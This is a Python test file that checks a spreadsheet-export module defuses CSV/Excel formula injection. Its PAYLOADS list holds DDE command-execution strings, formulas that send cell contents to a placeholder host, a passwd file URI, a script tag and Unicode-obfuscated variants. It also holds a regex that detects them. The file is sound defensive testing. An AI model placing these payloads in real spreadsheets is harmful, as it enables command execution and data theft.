"""Does any text, however meant, leave as anything but text, and is it still there to read?"""

import csv
import io
import re
import zipfile
from collections.abc import Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hongyan.documents.sheets_in import Sheet, read_sheet
from hongyan.documents.sheets_out import Watermark, safe_cell, write_csv, write_sheet

WHEN = datetime(2026, 11, 23, 9, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
MARK = Watermark("民勤县委组织部 章一帆", WHEN, "核对名册 & 统计")
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "|calc",
    "%0A=1+1",
    '=HYPERLINK("https://example.invalid?x="&A1,"看")',
    '=IMPORTXML(CONCAT("https://example.invalid/",A1),"//a")',
    '=WEBSERVICE("https://example.invalid")',
    '=DDE("cmd","/C calc","x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060\u200d=1+1",
    "\u202e=1+1",
    "\u00ad=1+1",
    "\u180e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "\uff5ccalc",
    "\u22121+1",
    '"=1+1"',
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "\u201c=1+1\u201d",
    "`=1+1",
    "_x003D_1+1",
    "_x0000_=1+1",
    " \t \u200b '=1+1",
    "-",
    "+86 100 1234 5678",
    "{=1+1}",
    ";=1+1",
    "正常\n=1+1",
    "正常\t=1+1",
    "正常,=1+1",
    '正常",=1+1',
    "https://example.invalid/a",
    "mailto:a@example.invalid",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "<script>alert(1)</script>",
    "0931",
    "10012345678",
    "62062100000000001A",
    "620621000000000015",
    "1E5",
    "TRUE",
    "2026-11-23",
    "#N/A",
]
# What a program takes for a formula: the signs themselves, whatever stands unseen before them.
ACTS = re.compile(
    r"^[\s\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff\u00ad\u180e\x00-\x1f\u3000\"`]*[=+\-@|%\uff1d\uff0b\uff0d\uff20\uff5c\u2212]"
)
UNSEEN = re.compile(r"[\s\x00-\x1f]")


def visible(text: object) -> str:
    """Return what one can see of a text."""
    return UNSEEN.sub("", str(text))


def book_of(rows: Sequence[Sequence[object]], **options: object) -> bytes:
    out = io.BytesIO()
    written = write_sheet(out, title="流出党员台账", headers=["甲", "乙"], rows=rows, **options)  # type: ignore[arg-type]
    assert written == len(rows)
    return out.getvalue()


def csv_of(rows: Sequence[Sequence[object]], **options: object) -> bytes:
    out = io.BytesIO()
    write_csv(out, headers=["甲", "乙"], rows=rows, **options)  # type: ignore[arg-type]
    return out.getvalue()


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_acts_and_none_is_lost(payload: str) -> None:
    safe = safe_cell(payload)
    assert isinstance(safe, str)
    assert not ACTS.match(safe)
    assert visible(payload) in visible(safe)
    # Two writers, three readers.
    book = openpyxl.load_workbook(io.BytesIO(book_of([[payload, "x"]])))
    cell = book.active["A2"]
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    # This reader leaves the escape of an escape as it is written.
    assert visible(cell.value).replace("_x005F_", "_") == visible(safe)
    rows = list(csv.reader(io.StringIO(csv_of([[payload, "x"]]).decode("utf-8-sig"))))
    assert rows[1:] == [[safe, "x"]]
    for content, name in ((book_of([[payload, "x"]]), "a.xlsx"), (csv_of([[payload, "x"]]), "a.csv")):
        sheet = read_sheet(content, name, max_rows=5)
        assert isinstance(sheet, Sheet)
        assert len(sheet.all_rows) == 1
        assert sheet.all_rows[0].cells[1] == "x"


def test_no_formula_stands_in_the_file_itself() -> None:
    content = book_of([[payload, payload] for payload in PAYLOADS], watermark=MARK)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            text = package.read(name)
            assert b"<f>" not in text
            assert b"<f " not in text
            assert b"<hyperlink" not in text
            assert b"externalLink" not in text
            assert b"vbaProject" not in text


@settings(max_examples=300)
@given(st.text(max_size=20))
def test_no_text_whatever_acts(text: str) -> None:
    safe = safe_cell(text)
    assert isinstance(safe, str)
    assert not ACTS.match(safe)
    assert "\n" not in safe
    assert "\t" not in safe
    # Making safe what is safe adds nothing that piles up with every export.
    assert str(safe_cell(safe)).lstrip("'") == safe.lstrip("'")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (True, "TRUE"),
        (-5, -5),
        (1.5, 1.5),
        (10**15, str(10**15)),
        (float("nan"), "nan"),
        (float("inf"), "inf"),
        (Decimal("-1.50"), "-1.50"),
        (date(2026, 11, 23), "2026-11-23"),
        (WHEN, "2026-11-23 09:00"),
        ("陈望川", "陈望川"),
        ("长" * 40_000, "长" * 32_000 + "…"),
    ],
)
def test_values_as_they_are_written(value: object, written: object) -> None:
    assert safe_cell(value) == written  # type: ignore[arg-type]


def test_the_sheet_says_whose_it_is_on_every_page() -> None:
    content = book_of([["陈", "1"], ["罗", "2"]], watermark=MARK, widths=[8, 20])
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book.active
    assert sheet is not None
    first = str(sheet["A1"].value)
    for part in ("民勤县委组织部 章一帆", "2026-11-23 09:00", "共 2 行", "核对名册 & 统计"):
        assert part in first
    footer = str(sheet.oddFooter.center.text)
    assert "章一帆" in footer
    assert sheet.freeze_panes == "A3"
    assert sheet.print_title_rows == "$2:$2"
    assert sheet.print_area == "'流出党员台账'!$A$1:$B$4"
    assert [cell.value for cell in sheet[2]] == ["甲", "乙"]
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width
    assert not book.properties.creator
    assert not book.properties.lastModifiedBy


def test_our_own_reader_reads_what_we_write() -> None:
    rows = [["陈望川", "62062100000000001A"], ["-", "10012345678"]]
    for content, name in ((book_of(rows, watermark=MARK), "a.xlsx"), (csv_of(rows, watermark=MARK), "a.csv")):
        sheet = read_sheet(content, name, max_rows=5, titles=("甲", "乙"))
        assert isinstance(sheet, Sheet)
        assert [row.cells for row in sheet.rows] == [tuple(row) for row in rows]
        assert [row.number for row in sheet.rows] == [3, 4]


def test_rows_may_come_one_by_one_but_their_count_must_be_true(tmp_path: Path) -> None:
    def stream(count: int) -> Iterator[list[str]]:
        for number in range(count):
            yield [str(number), "x"]

    target = tmp_path / "a.xlsx"
    assert (
        write_sheet(
            target, title="[坏]:*名?/\\", headers=["甲", "乙"], rows=stream(3000), count=3000, watermark=MARK
        )
        == 3000
    )
    sheet = read_sheet(target.read_bytes(), "a.xlsx", max_rows=3000, titles=("甲", "乙"))
    assert isinstance(sheet, Sheet)
    assert len(sheet.rows) == 3000
    with pytest.raises(ValueError, match="3 rows, not 4"):
        write_sheet(io.BytesIO(), title="a", headers=["甲"], rows=stream(3), count=4)
    with pytest.raises(TypeError):
        write_sheet(io.BytesIO(), title="a", headers=["甲"], rows=stream(3))
